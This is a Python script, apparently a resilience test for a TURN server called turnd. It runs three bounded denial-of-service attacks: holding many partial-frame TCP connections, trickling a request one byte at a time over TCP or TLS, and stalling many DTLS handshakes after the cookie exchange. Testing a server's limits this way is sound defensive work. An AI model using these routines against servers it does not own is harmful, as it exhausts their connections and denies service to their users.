#!/usr/bin/env python3
"""Connection-holding attacks on turnd's TCP, TLS and DTLS ports, from one
source address (bound before connecting), each bounded in count and time.

  conn_hold.py hold HOST PORT SRC COUNT CLAIM SEND SECONDS STATUS
      COUNT TCP connections from SRC, each sending the first SEND bytes of
      a ChannelData frame whose header claims CLAIM bytes (a partial frame;
      SEND 0: nothing), kept at COUNT by reconnecting (at most 20 * COUNT
      connects) for SECONDS or until STATUS.stop exists. STATUS gets
      "tries T alive A most M" twice a second: A open now, M the most
      open at once, and " end" at the end.
  conn_hold.py trickle HOST PORT SRC INTERVAL MAX MODE
      One connection that sends a Binding request one byte every INTERVAL
      seconds; MODE "tcp", "tls" (the bytes inside a finished TLS
      handshake), "raw-tls" (trickled bytes where a TLS handshake should
      be) or "after-binding" (a whole Binding first, answered, then the
      trickle). Prints "trickle: closed after X s" or "trickle: open
      after MAX s".
  conn_hold.py dtls HOST PORT SRC COUNT SECONDS STATUS
      COUNT DTLS handshakes from SRC at once: each returns the server's
      cookie (so the server starts a session) and then stalls, for SECONDS
      or until STATUS.stop exists. STATUS gets "handshakes N cookies C
      started M" (M: the server sent its ServerHello flight).
"""
import os
import select
import socket
import ssl
import struct
import sys
import time

BINDING = struct.pack("!HHI", 0x0001, 0, 0x2112A442) + os.urandom(12)


def connect_from(src, host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((src, 0))
    s.settimeout(5)
    s.connect((host, port))
    return s


def alive(s):
    """False once the server closed or reset the connection."""
    s.setblocking(False)
    try:
        data = s.recv(65536)
        return data != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def write_status(path, text):
    with open(path + ".tmp", "w") as f:
        f.write(text + "\n")
    os.replace(path + ".tmp", path)


def open_one(host, port, src, frame):
    try:
        s = connect_from(src, host, port)
        if frame:
            s.sendall(frame)
        return s
    except OSError:
        return None


def hold(host, port, src, count, claim, send, seconds, status):
    """Keep COUNT connections open, opening a new one for each the server
    closes (at most 20 * COUNT connects in all), for SECONDS."""
    frame = (struct.pack("!HH", 0x4000, claim) + b"\x00" * max(0, send - 4))[:send]
    conns = []
    tries = 0
    most = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not os.path.exists(status + ".stop"):
        while len(conns) < count and tries < 20 * count and time.monotonic() < deadline:
            tries += 1
            s = open_one(host, port, src, frame)
            if s:
                conns.append(s)
        time.sleep(0.5)  # the server reads, refuses or closes
        live = [s for s in conns if alive(s)]
        for s in conns:
            if s not in live:
                s.close()
        conns = live
        most = max(most, len(conns))
        write_status(status, "tries %d alive %d most %d" % (tries, len(conns), most))
    write_status(status, "tries %d alive %d most %d end" % (tries, len(conns), most))
    for s in conns:
        s.close()


def trickle(host, port, src, interval, limit, mode):
    raw = connect_from(src, host, port)
    s = raw
    if mode == "tls":
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        s = ctx.wrap_socket(raw)
    if mode == "after-binding":
        s.sendall(BINDING)
        s.recv(2048)  # the Binding success response
    start = time.monotonic()
    data = BINDING if mode != "raw-tls" else b"\x16\x03\x01\x02\x00" + os.urandom(512)
    i = 0
    while time.monotonic() - start < limit:
        try:
            s.send(data[i % len(data):i % len(data) + 1])
            i += 1
        except OSError:
            break
        # Wait INTERVAL, watching for the close (b"" or a reset).
        end = time.monotonic() + interval
        closed = False
        while time.monotonic() < end:
            s.settimeout(max(0.05, end - time.monotonic()))
            try:
                if s.recv(4096) == b"":
                    closed = True
                    break
            except (socket.timeout, ssl.SSLWantReadError):
                pass
            except OSError:
                closed = True
                break
        if closed:
            break
    took = time.monotonic() - start
    if took >= limit:
        print("trickle: open after %d s (%d bytes)" % (limit, i))
    else:
        print("trickle: closed after %.1f s (%d bytes)" % (took, i))
    s.close()


def client_hello(cookie=b""):
    """A DTLS 1.2 ClientHello that OpenSSL accepts (ECDHE-ECDSA with P-256)."""
    body = struct.pack("!H", 0xFEFD) + os.urandom(32) + b"\x00"
    body += struct.pack("!B", len(cookie)) + cookie
    suites = [0xC02B, 0xC02F, 0xC02C, 0xC030]
    body += struct.pack("!H", 2 * len(suites)) + b"".join(struct.pack("!H", x) for x in suites)
    body += b"\x01\x00"
    ext = b""
    ext += struct.pack("!HHH", 10, 4, 2) + struct.pack("!H", 23)  # supported_groups: P-256
    ext += struct.pack("!HHB", 11, 2, 1) + b"\x00"  # ec_point_formats: uncompressed
    algs = [0x0403, 0x0804, 0x0401]
    ext += struct.pack("!HHH", 13, 2 + 2 * len(algs), 2 * len(algs))
    ext += b"".join(struct.pack("!H", a) for a in algs)  # signature_algorithms
    ext += struct.pack("!HH", 23, 0)  # extended_master_secret
    body += struct.pack("!H", len(ext)) + ext
    n = len(body)
    # The hello that returns the cookie is message 1 (RFC 6347 section 4.2.2).
    seq = 1 if cookie else 0
    hs = b"\x01" + n.to_bytes(3, "big") + struct.pack("!H", seq) + b"\x00\x00\x00"
    hs += n.to_bytes(3, "big")
    rec = struct.pack("!BHH", 22, 0xFEFF, 0) + seq.to_bytes(6, "big")
    return rec + struct.pack("!H", len(hs + body)) + hs + body


def collect(socks, wait, want):
    """The first datagram each socket receives within WAIT seconds, if it
    passes WANT."""
    got = {}
    deadline = time.monotonic() + wait
    while len(got) < len(socks):
        left = deadline - time.monotonic()
        if left <= 0:
            break
        ready, _, _ = select.select([u for u in socks if u not in got], [], [], left)
        for u in ready:
            try:
                data = u.recv(4096)
            except OSError:
                continue
            if want(data):
                got[u] = data
    return got


def dtls(host, port, src, count, seconds, status):
    """All COUNT handshakes at once: ClientHellos, then each cookie back;
    the sessions that answer with a ServerHello are then left to stall."""
    deadline = time.monotonic() + seconds
    socks = []
    for _ in range(count):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind((src, 0))
        u.connect((host, port))
        u.setblocking(False)
        socks.append(u)
        try:
            u.send(client_hello())
        except OSError:
            pass
    # record (13) + handshake header (12) + version (2) + cookie length
    hvr = collect(socks, 3.0, lambda d: len(d) >= 28 and d[0] == 22 and d[13] == 3)
    for u, d in hvr.items():
        try:
            u.send(client_hello(d[28:28 + d[27]]))
        except OSError:
            pass
    flights = collect(list(hvr), 3.0, lambda d: len(d) > 13 and d[0] == 22 and d[13] == 2)
    write_status(status, "handshakes %d cookies %d started %d" % (len(socks), len(hvr), len(flights)))
    while time.monotonic() < deadline and not os.path.exists(status + ".stop"):
        time.sleep(0.2)
    for u in socks:
        u.close()


def main():
    a = sys.argv
    if a[1] == "hold":
        hold(a[2], int(a[3]), a[4], int(a[5]), int(a[6]), int(a[7]), float(a[8]), a[9])
    elif a[1] == "trickle":
        trickle(a[2], int(a[3]), a[4], float(a[5]), float(a[6]), a[7])
    elif a[1] == "dtls":
        dtls(a[2], int(a[3]), a[4], int(a[5]), float(a[6]), a[7])
    else:
        print(__doc__)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
